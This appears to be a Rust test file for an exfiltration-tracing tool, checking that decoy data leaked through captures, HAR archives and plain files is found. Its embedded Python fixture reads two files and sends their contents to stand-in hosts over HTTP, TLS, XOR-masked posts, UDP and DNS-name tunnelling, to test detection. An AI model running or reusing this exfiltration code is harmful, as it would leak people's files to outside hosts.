//! Claim: a capture by itself gives the same traces as the bundle that it is from, also through TLS
//! 1.2 and 1.3 with the secrets inside; decoys of a lab's own are found in HAR archives and plain
//! files; what cannot be read makes the outcome inconclusive.
#![allow(missing_docs, reason = "a test")]

use belljar_tests::made::{component, scenario};
use belljar_tests::{Belljar, Ended, fresh_seed};
use serde_json::{Value, json};
use std::ffi::OsStr;
use std::path::Path;
use std::process::Command;

/// Sends pieces of both files: plain, in TLS of both versions, in datagrams, in names, under a key.
const SENDS: &str = "
import base64, gzip, hashlib, socket, ssl
scan()
root = sys.argv[1]
def read(name):
    with open(os.path.join(root, name), 'rb') as file:
        return file.read()
notes, plans = read('notes.txt'), read('plans.txt')
def post(path, body, port=80, version=None):
    there = socket.create_connection(('203.0.113.7', port), timeout=30)
    if version:
        context = ssl._create_unverified_context()
        context.minimum_version = context.maximum_version = version
        there = context.wrap_socket(there, server_hostname='collect.example')
    head = f'POST {path} HTTP/1.1\\r\\nHost: collect.example\\r\\nContent-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n'
    there.sendall(head.encode() + body)
    while there.recv(65536):
        pass
    there.close()
post('/plain', b'data=' + base64.b64encode(gzip.compress(notes)))
post('/new', plans[1000:30000], 443, ssl.TLSVersion.TLSv1_3)
post('/old', hashlib.sha256(plans).hexdigest().encode(), 443, ssl.TLSVersion.TLSv1_2)
key = bytes(range(7, 7 + 21))
post('/masked', bytes(b ^ key[i % 21] for i, b in enumerate(notes[2000:5000])))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.sendto(plans[31000:31400], ('203.0.113.9', 5000))
for at in range(0, 300, 30):
    name = b''.join(bytes([len(label)]) + label for label in (notes[at:at+30].hex().encode(), b'x', b'example'))
    udp.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + name + b'\\x00\\x00\\x01\\x00\\x01', ('203.0.113.53', 53))
";

fn trace<I: IntoIterator<Item = A>, A: AsRef<OsStr>>(args: I) -> Ended {
    let began = std::time::Instant::now();
    let output = Command::new(belljar_tests::binary())
        .args(["trace", "--format", "json"])
        .args(args)
        .output()
        .expect("belljar starts");
    let ended = Ended::from((output, began.elapsed()));
    println!("--- trace ended with {}\n{}", ended.code, ended.stderr);
    ended
}

fn json_of(ended: &Ended) -> Value {
    serde_json::from_str(&ended.stdout).unwrap_or_else(|_| panic!("is JSON: {}", ended.stdout))
}

/// What two ways to the same traces must agree in.
fn told(rows: &Value) -> Vec<String> {
    let mut all: Vec<String> = rows["rows"]
        .as_array()
        .expect("is a list")
        .iter()
        .map(|row| {
            let place = &row["place"];
            json!([
                row["subject"],
                row["class"],
                row["decoy-offset"],
                row["bytes"],
                row["chain"],
                place["payload"],
                place["layer"],
                place["offset"],
                place["shows"],
            ])
            .to_string()
        })
        .collect();
    all.sort();
    all
}

fn os<'a>(args: &[&'a Path]) -> Vec<&'a OsStr> {
    args.iter().map(|path| path.as_os_str()).collect()
}

#[test]
fn a_capture_gives_the_traces_of_its_bundle() {
    let mut belljar = Belljar::run("made.toml", fresh_seed(), &[]);
    belljar.file("made.toml", &scenario("", ""));
    let component = component(&belljar, SENDS);
    belljar.command.arg("--component").arg(component);
    assert_eq!(belljar.end().code, 1);
    let verdict = belljar.verdict();
    let bundle = belljar.bundle();
    let (decoys, capture) = (bundle.join("decoys.json"), bundle.join("capture.pcapng"));

    let ended = trace(os(&[Path::new("--decoys"), &decoys, &capture]));
    assert_eq!(ended.code, 1, "{}", ended.stderr);
    let report = json_of(&ended);
    let (mine, its) = (told(&report["traces"]), told(&verdict["traces"]));
    assert_eq!(mine, its, "the capture's and the bundle's");
    for chain in ["\"gzip\"", "\"hex\"", "xor (", "datagrams", "plain text inside TLS"] {
        assert!(mine.iter().any(|row| row.contains(chain)), "{chain}: {mine:#?}");
    }
    assert_eq!(report["inputs"][0]["decrypted"], 2, "{report:#}");
    assert_eq!(report["lost"], json!([]));
    let found = &report["traces"]["rows"][0];
    assert!(found["to"].as_str().is_some_and(|to| to.starts_with("203.0.113.")), "{found:#}");
    assert_eq!(found["direction"], "out");

    // A capture that was cut: nothing is said to be whole.
    let bytes = std::fs::read(&capture).expect("is there");
    let cut = belljar.folder().join("cut.pcapng");
    std::fs::write(&cut, &bytes[..400]).expect("can be written");
    let ended = trace(os(&[Path::new("--decoys"), &decoys, &cut]));
    assert_eq!(ended.code, 3, "{}{}", ended.stdout, ended.stderr);

    // Another seed's decoys are not in it.
    let plan = std::fs::read_to_string(bundle.join("plan.json")).expect("is there");
    let other = belljar.folder().join("other");
    std::fs::create_dir(&other).expect("can be made");
    std::fs::write(other.join("plan.json"), plan).expect("can be written");
    let manifest = std::fs::read_to_string(&decoys).expect("is there");
    let digest = verdict["findings"][0]["subjects"]["rows"][0]["sha256"].as_str();
    let forged = manifest.replace(digest.expect("is text"), &"0".repeat(64));
    std::fs::write(other.join("decoys.json"), forged).expect("can be written");
    let ended = trace(os(&[Path::new("--decoys"), &other.join("decoys.json"), &cut]));
    assert_eq!(ended.code, 3);
    let lost = json_of(&ended)["lost"].to_string();
    assert!(lost.contains("do not plant as they were"), "{lost}");
}

#[test]
fn decoys_of_a_lab_are_found_in_archives_of_requests_and_in_files() {
    let belljar = Belljar::new(&[]);
    let folder = belljar.folder();
    let decoys = folder.join("decoys");
    std::fs::create_dir(&decoys).expect("can be made");
    let seed = fresh_seed();
    let text: String = (0..400)
        .map(|n: u64| format!("{:x} {} ", seed.wrapping_mul(n * n + 7) % 99_991, n * 31 % 257))
        .collect();
    std::fs::write(decoys.join("minutes of the board.txt"), &text).expect("can be written");
    let har = json!({ "log": { "version": "1.2", "entries": [
        { "request": { "method": "POST", "url": "https://up.example/x?y=1", "headers": [
            { "name": "Content-Type", "value": "text/plain" } ],
            "postData": { "mimeType": "text/plain", "text": &text[100..700] } },
          "response": { "content": { "text": &text[1000..1400] } } },
        { "request": { "method": "GET", "url": "https://up.example/minutes%20of%20the%20board.txt",
            "headers": [] } },
    ] } });
    let path = belljar.file("session.har", &har.to_string());
    let ended = trace(os(&[Path::new("--decoys"), &decoys, &path]));
    assert_eq!(ended.code, 1, "{}", ended.stderr);
    let report = json_of(&ended);
    let rows = report["traces"]["rows"].as_array().expect("is a list");
    let fragment = rows.iter().find(|row| row["class"] == "fragment").expect("a fragment");
    assert_eq!((&fragment["decoy-offset"], &fragment["bytes"]), (&json!(100), &json!(600)));
    assert_eq!(fragment["host"], "up.example");
    assert!(rows.iter().any(|row| row["class"] == "metadata"), "the name: {rows:#?}");
    // What came in has not left.
    assert_eq!(rows.iter().filter(|row| row["class"] == "fragment").count(), 1);

    // A plain file with it, one without, and nothing to look through.
    let with = belljar.file("with.bin", &format!("abc{}xyz", &text[50..400]));
    let without = belljar.file("without.bin", "nothing of that kind");
    let empty = belljar.file("empty.bin", "");
    let looked = |path: &Path| trace(os(&[Path::new("--decoys"), &decoys, path])).code;
    assert_eq!((looked(&with), looked(&without), looked(&empty)), (1, 0, 3));
    // What is common says nothing.
    let common = folder.join("common");
    std::fs::create_dir(&common).expect("can be made");
    std::fs::write(common.join("template"), &text).expect("can be written");
    let ended = trace(os(&[Path::new("--decoys"), &decoys, Path::new("--common"), &common, &with]));
    assert_eq!(ended.code, 0, "{}", ended.stdout);
    // Bad input is usage.
    assert_eq!(looked(Path::new("/does/not/exist")), 2);
    let broken = belljar.file("broken.har", "{\"log\": {\"entries\": 7}}");
    assert_eq!(looked(&broken), 2);
    assert_eq!(trace(os(&[Path::new("--decoys"), &folder.join("empty.bin"), &with])).code, 2);
}
